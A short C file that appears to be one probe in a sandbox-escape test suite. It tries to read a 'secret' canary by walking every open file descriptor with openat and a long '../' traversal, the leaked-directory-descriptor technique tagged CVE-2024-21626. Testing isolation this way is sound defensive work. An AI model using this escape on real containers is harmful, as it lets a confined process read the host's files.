/* By a directory that was left open. */
#include "../attack.h"

#include <fcntl.h>

ATTACK(FILES, "root", .gain = "every file, by one descriptor that was not closed",
       .source = "CVE-2024-21626", .works = SOME_KERNELS,
       .needs = "a descriptor of a directory of the caller's")
{
	char path[600], dots[700] = "";

	for (int i = 0; i < 40; i++)
		strcat(dots, "../");
	strncat(dots, target("secret") + 1, 500);
	for (int fd = 0; fd < 1024; fd++) {
		snprintf(path, sizeof(path), "%s", target("secret") + 1);
		if (read_canary(openat(fd, path, O_RDONLY | O_CLOEXEC)) == 0 ||
		    read_canary(openat(fd, dots, O_RDONLY | O_CLOEXEC)) == 0)
			return 0;
	}
	return denied(EBADF);
}
